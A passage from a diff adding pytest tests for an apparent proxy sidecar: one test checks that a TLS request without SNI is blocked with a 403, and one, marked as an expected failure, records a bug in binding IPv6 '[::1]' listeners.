+        f"https://{PROVIDER_V4}/v1/models", "-k", "-H", f"Host: {PROVIDER_HOST}", *headers
+    )
+    assert _received(world, headers) == [], "forwarded a TLS connection that had no SNI"
+    assert got.status == 403, got
+    assert world.wait_decision(mark, host=PROVIDER_HOST)["decision"] == "block"
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="BUG: `--transparent [::1]:PORT` / `--dns [::1]:PORT` exit at start: "
+    "runner.mode_specs writes transparent@[::1]:PORT, mitmproxy's ProxyMode.parse keeps "
+    "the brackets as the listen host, and binding '[::1]' fails (Errno -2)",
+)
+def test_sidecar_binds_ipv6_listeners(world: World) -> None:
+    """The documented pod listeners include [::1]; a second sidecar (root, other ports)."""
+    policy = world.work / "policy.yaml"
+    args = sidecar_args(world.work, policy, world.upstream_ca, ipv6=True, port_offset=100)
+    sidecar = sidecar_process(world.pod, world.work, args, 0)
+    try:
+        sidecar.start(timeout=30)
+        listeners = sidecar.listening["listeners"]
+        assert f"[::1]:{TRANSPARENT_PORT + 100}" in listeners["transparent"]
+        assert f"[::1]:{DNS_PORT + 100}" in listeners["dns"]
+    finally:
+        sidecar.stop()
